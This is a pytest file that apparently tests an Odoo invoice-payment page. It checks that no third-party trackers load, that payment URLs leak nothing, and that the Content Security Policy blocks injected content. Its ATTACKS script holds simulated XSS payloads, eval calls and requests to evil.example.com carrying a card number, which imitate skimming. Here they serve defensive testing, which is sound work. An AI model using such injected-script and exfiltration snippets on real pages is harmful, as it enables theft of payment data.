"""What runs beside the card: our scripts, Odoo's, the provider's, and nothing else.

Other providers than the demo one are in test_policy_providers.py.
"""

import re
from collections import defaultdict
from urllib.parse import urlsplit

import pytest
from ledger import fill
from payer import CHOICE

from dev import databases

EMAIL = "billing@blueharbor.example.com"
#: A website with all that companies put on theirs.
TRACKED = """
import json

channel = env["im_livechat.channel"].create({
    "name": "Theirs", "user_ids": [(6, 0, env.ref("base.user_admin").ids)]})
values = {
    "custom_code_head": "<script>window.theirs = 'head'</script>",
    "custom_code_footer": "<script>window.theirs = 'foot'</script>",
    "google_analytics_key": "G-THEIRS", "cookies_bar": True,
    "plausible_shared_key": "theirs", "plausible_site": "theirs.example.com",
    "channel_id": channel.id,
}
for website in env["website"].search([]):
    website.write(values)
invoice = env["account.move"].search(
    [("name", "=", "Inv200"), ("partner_id.email", "=", EMAIL)])
links = [invoice.paynow_url, invoice.partner_id._paynow_get_opt_out_url(
    invoice.company_id)]
env.cr.commit()
print(json.dumps(links))
"""
LINK = """
import json

invoice = env["account.move"].search([("name", "=", "Inv126")])
print(json.dumps(invoice.paynow_url))
"""
#: What of the website is on a page: its own code, its chat, its question of cookies.
THEIRS = """() => [
    window.theirs ? "code" : null,
    window.ga || window.gtag || window.plausible ? "tracker" : null,
    odoo.loader.modules.get("@web/session")?.session.livechatData ? "chat" : null,
    document.querySelector("#website_cookies_bar") ? "cookies" : null,
].filter(Boolean)"""
#: What an attacker tries who can write into the page; what the browser says of it.
ATTACKS = """async () => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (ev) => {
        blocked.push(ev.effectiveDirective);
    });
    const add = (name, values) => {
        document.body.append(Object.assign(document.createElement(name), values));
    };
    add("script", {textContent: "window.hacked = 'script'"});
    add("script", {src: "https://evil.example.com/script.js"});
    add("div", {innerHTML: "<img src='x' onerror='window.hacked = 1'/>"});
    add("iframe", {src: "https://evil.example.com/frame"});
    add("object", {data: "https://evil.example.com/object"});
    add("base", {href: "https://evil.example.com/"});
    add("img", {src: "https://evil.example.com/?card=4242"});
    // Until then, the browser takes this for the debugger's, which may do all.
    await new Promise((resolve) => setTimeout(resolve));
    for (const make of [() => window.eval("1"), () => new Function("return 1")]) {
        try {
            window.hacked = make();
        } catch {
            // As it should be.
        }
    }
    await fetch("https://evil.example.com/?card=4242").catch(() => {});
    const form = document.createElement("form");
    form.action = "https://evil.example.com/form";
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return [window.hacked ?? null, window.theirs ?? null, [...new Set(blocked)].sort()];
}"""
BLOCKED = [
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src",
    "script-src-attr",
    "script-src-elem",
]


#: What the browser says of scripts whose addresses the cookies bar takes away.
COOKIES = "about:blank"


def forget(payer, *texts):
    """Forget what the browser says of what is as it should be."""
    payer.complaints[:] = [
        complaint
        for complaint in payer.complaints
        if not any(text in complaint for text in texts)
    ]


@pytest.fixture(scope="module")
def links(stack, paynow_db, shell):
    """A mailed link and one to opt out; the website has all trackers from here on."""
    databases.install(stack, paynow_db, ["website_livechat"])
    addresses = map(urlsplit, shell(fill(TRACKED, EMAIL=EMAIL)))
    return [f"{address.path}?{address.query}" for address in addresses]


@pytest.fixture(scope="module")
def proxied(links, start_server):
    """The server of that website."""
    return start_server(arguments=("--proxy-mode",))


@pytest.fixture
def asked(visit):
    """A client on a website with trackers; the foreign hosts asked, by kind of page."""
    payer = visit()
    hosts = defaultdict(set)

    def note(route):
        kind = re.sub(r"(/PAYNOW/\w+).*", r"\1", urlsplit(payer.page.url).path)
        hosts[kind].add(urlsplit(route.request.url).hostname)
        route.fulfill(body="")

    payer.page.route(lambda url: urlsplit(url).hostname != "localhost", note)
    yield payer, hosts
    forget(payer, COOKIES)


def test_no_page_of_ours_asks_a_foreign_host(asked, links):
    """Each page: only the bare form is the website's, with all that stands on it."""
    payer, hosts = asked
    page, mailed, opt_out = payer.page, *links
    seen = {}

    def look(kind):
        page.wait_for_load_state("networkidle")
        seen[kind] = page.evaluate(THEIRS)

    page.goto("/PAYNOW")
    look("form")
    page.locator("#cookies-consent-all").click()  # From now on, all trackers may run.
    payer.look_up(EMAIL, "Inv200", "31")
    payer.expect_heading(CHOICE)
    look("checkout")
    payer.choose("Card")
    payer.proceed()
    look("confirmation")
    assert payer.pay()["state"] == "done"
    look("receipt")
    payer.look_up(EMAIL, "Inv200", "30")
    page.get_by_role("link", name="Tell us").click()
    payer.expect_heading("Inv200")
    look("tell us")
    page.get_by_role("link", name="Back to the payment").click()
    page.get_by_role("link", name="Change the invoice").click()
    payer.expect_fields(EMAIL, "Inv200", "30.00")
    look("filled form")
    page.get_by_label("Amount to pay").fill("1e30")
    page.get_by_role("button", name="Continue").click()
    for kind, address in (("mailed link", mailed), ("opt-out", opt_out)):
        page.goto(address)
        look(kind)
    page.goto("/PAYNOW/checkout/x")
    look("expired")
    forget(payer, "status of 403")

    assert seen.pop("form") == ["code", "tracker", "chat", "cookies"]
    assert seen == dict.fromkeys(seen, [])
    assert {"www.googletagmanager.com", "plausible.io"} <= hosts.pop("/PAYNOW")
    assert hosts == {}


@pytest.mark.parametrize("number", ["Inv200", "Inv126"], ids=["look-up", "mailed link"])
def test_no_address_of_a_payment_is_of_use_to_another_browser(visit, shell, number):
    """What a log, a history or a referrer holds shows no invoice and pays nothing.

    A mailed link stands in the log of the server once, as it arrives.
    """
    payer, asked, shown, referrers = visit(), [], [], []
    page = payer.page
    page.on("framenavigated", lambda frame: shown.append(frame.url))
    page.on("request", lambda request: asked.append((request.method, request.url)))
    page.on(
        "request",
        lambda request: referrers.append(request.headers.get("referer", "")),
    )
    if number == "Inv126":
        link = shell(LINK)
        payer.open_link(f"/PAYNOW{link.partition('/PAYNOW')[2]}", number)
    else:
        payer.look_up(EMAIL, "Inv200", "33")
        payer.expect_heading(CHOICE)
    page.get_by_role("link", name="Tell us").click()
    page.get_by_role("link", name="Back to the payment").click()
    payer.choose("Card")
    payer.proceed()
    assert payer.pay()["state"] == "done"
    ours = {
        (method, url)
        for method, url in asked
        if re.match(r"/(PAYNOW|payment)/", urlsplit(url).path)
    }
    assert len(ours) >= 5
    assert not [url for url in shown if "link=" in url]
    assert not [url for url in referrers if "/PAYNOW/" in url or "link=" in url]
    other = visit()
    for method, url in sorted(ours):
        if method == "GET":
            other.page.goto(url)
            text = other.page.content()
            assert other.page.locator("#o_payment_form").count() == 0, url
        else:
            text = other.page.request.post(
                url, data={"jsonrpc": "2.0", "params": {}}
            ).text()
        assert number not in text, url
    forget(payer, COOKIES)
    forget(other, COOKIES, "status of 403")


def test_what_is_written_into_the_page_runs_nothing(asked):
    """Scripts, handlers, texts made into functions; other hosts of any kind."""
    payer, hosts = asked
    payer.look_up(EMAIL, "Inv200", "32")
    payer.expect_heading(CHOICE)
    payer.page.wait_for_load_state("networkidle")
    hosts.clear()
    assert payer.page.evaluate(ATTACKS) == [None, None, BLOCKED]
    assert hosts == {}
    # The browser tells of what it blocked, and of a picture that isn't there.
    assert payer.complaints
    payer.complaints.clear()
